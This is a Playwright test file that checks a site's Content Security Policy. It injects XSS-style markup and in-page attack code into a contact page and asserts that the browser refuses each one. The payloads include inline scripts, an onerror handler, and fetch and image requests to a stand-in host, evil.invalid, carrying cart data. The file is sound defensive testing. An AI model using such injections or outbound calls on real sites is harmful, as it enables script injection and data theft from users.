import { expect } from '@playwright/test'
import { test } from './support/test.ts'

/** Markup that an attacker got into a page through the build, and how the browser reports its refusal. */
const MARKUP: Readonly<Record<string, string>> = {
  "<script>document.title = 'taken'</script>": 'script-src-elem by inline',
  '<img src=x onerror="document.title = \'taken\'">': 'script-src-attr by inline',
  '<script src="https://evil.invalid/x.js"></script>': 'script-src-elem by https://evil.invalid/x.js',
  '<style>body { display: none }</style>': 'style-src-elem by inline',
  '<b style="color: red">x</b>': 'style-src-attr by inline',
  '<object data="https://evil.invalid/"></object>': 'object-src by https://evil.invalid',
  '<iframe src="https://evil.invalid/"></iframe>': 'frame-src by https://evil.invalid',
  '<base href="https://evil.invalid/">': 'base-uri by https://evil.invalid',
}

/** What an attacker's code in a page would try, and the directive that refuses it. */
const ATTACKS: Readonly<Record<string, { directive: string; attack: () => unknown }>> = {
  'a script from elsewhere': {
    directive: 'require-trusted-types-for',
    attack: () => Object.assign(document.createElement('script'), { src: 'https://evil.invalid/x.js' }),
  },
  'markup from text': {
    directive: 'require-trusted-types-for',
    attack: () => (document.body.innerHTML = '<img src=x onerror="document.title=1">'),
  },
  'code from text': {
    directive: 'require-trusted-types-for',
    // Later, because code that Playwright evaluates may do at once what the page may not.
    // eslint-disable-next-line @typescript-eslint/no-implied-eval
    attack: () => setTimeout(() => Function('return 1')),
  },
  'a handler in an attribute': {
    directive: 'require-trusted-types-for',
    attack: () => document.body.setAttribute('onclick', 'document.title = "taken"'),
  },
  'a policy of its own': {
    directive: 'trusted-types',
    attack: () =>
      (
        window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
      ).trustedTypes.createPolicy('default', {}),
  },
  'styles in an attribute': {
    directive: 'style-src-attr',
    attack: () => document.body.setAttribute('style', 'color: red'),
  },
  'styles of its own': {
    directive: 'style-src-elem',
    attack: () =>
      document.head.append(Object.assign(document.createElement('style'), { textContent: 'a{}' })),
  },
  'a picture elsewhere': {
    directive: 'img-src',
    attack: () => document.body.append(Object.assign(new Image(), { src: 'https://evil.invalid/?cart' })),
  },
  'a request elsewhere': {
    directive: 'connect-src',
    attack: () => fetch('https://evil.invalid/?cart').catch(() => undefined),
  },
}

const refusal = (what: string) => expect.stringContaining(`securitypolicyviolation of ${what}`)

test('markup that got into a page is refused, and any test would fail on it', async ({
  page,
  policyViolations,
}) => {
  await page.route('/kontakt', async (route) => {
    const response = await route.fetch()
    const markup = Object.keys(MARKUP).join('\n')
    await route.fulfill({ response, body: (await response.text()).replace('<main', `${markup}<main`) })
  })
  await page.goto('/kontakt')
  for (const [markup, how] of Object.entries(MARKUP))
    await expect.poll(() => policyViolations, markup).toContainEqual(refusal(how))
  await expect(page).toHaveTitle(/^Kontakt/)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  policyViolations.length = 0
})

test('what code in a page would do is refused, and any test would fail on it', async ({
  page,
  policyViolations,
}) => {
  await page.goto('/kontakt')
  for (const [name, { directive, attack }] of Object.entries(ATTACKS)) {
    await page.evaluate(attack).catch(() => undefined)
    await expect.poll(() => policyViolations, name).toContainEqual(refusal(`${directive} `))
    policyViolations.length = 0
  }
  await expect(page).toHaveTitle(/^Kontakt/)
})
